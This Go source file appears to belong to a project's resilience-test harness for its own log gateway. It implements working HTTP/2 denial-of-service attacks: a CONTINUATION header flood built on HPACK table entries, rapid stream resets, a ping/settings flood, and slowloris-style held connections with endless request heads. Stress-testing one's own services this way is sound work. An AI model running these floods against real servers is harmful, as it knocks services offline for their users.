// Copyright The otelcol-tenant Authors
// SPDX-License-Identifier: MIT

package attack

import (
	"bytes"
	"context"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// headerLists sends endless header lists on several connections, with fields that take one byte
// each on the wire.
func (t *Target) headerLists(ctx context.Context, connections, frames int, wait time.Duration) {
	var held []*wire
	first := append(fields(":method", "POST"), 0x40, 1, 'a', 0) // the field becomes entry 62 of the table
	many := bytes.Repeat([]byte{0x80 | 62}, frameSize)
	for range connections {
		w, err := dialHTTP2(ctx, t.http2())
		if err != nil {
			break
		}
		held = append(held, w)
		go w.discard()
		if w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}) != nil {
			continue
		}
		for range frames {
			if w.WriteContinuation(1, false, many) != nil {
				break // refused
			}
		}
	}
	pause(ctx, wait)
	for _, w := range held {
		_ = w.Close()
	}
}

// resets opens streams and resets them immediately.
func (t *Target) resets(ctx context.Context, n int) {
	w, err := dialHTTP2(ctx, t.http2())
	if err != nil {
		return
	}
	defer w.Close()
	go w.discard()
	for i := range n {
		id := uint32(2*i + 1)
		if w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: t.callHeaders(logsPath, ""), EndHeaders: true}) != nil ||
			w.WriteRSTStream(id, http2.ErrCodeCancel) != nil || ctx.Err() != nil {
			return
		}
	}
}

// controlFrames floods a connection with frames that require an answer, and reads none.
func (t *Target) controlFrames(ctx context.Context, n int) {
	w, err := dialHTTP2(ctx, t.http2())
	if err != nil {
		return
	}
	defer w.Close()
	for range n {
		if w.WritePing(false, [8]byte{}) != nil || w.WriteSettings() != nil || ctx.Err() != nil {
			return
		}
	}
}

// connections opens n connections, sends head on each, and closes them after wait.
func connections(ctx context.Context, addr string, n int, head []byte, wait time.Duration) {
	var held []net.Conn
	for range n {
		c, err := open(ctx, addr, head)
		if err != nil {
			break
		}
		held = append(held, c)
	}
	pause(ctx, wait)
	for _, c := range held {
		_ = c.Close()
	}
}

// longHead returns the beginning of a request whose head has size bytes and no end.
func longHead(size int) []byte {
	return []byte("POST /v1/logs HTTP/1.1\r\nHost: gateway\r\nX-Long: " + strings.Repeat("a", size))
}
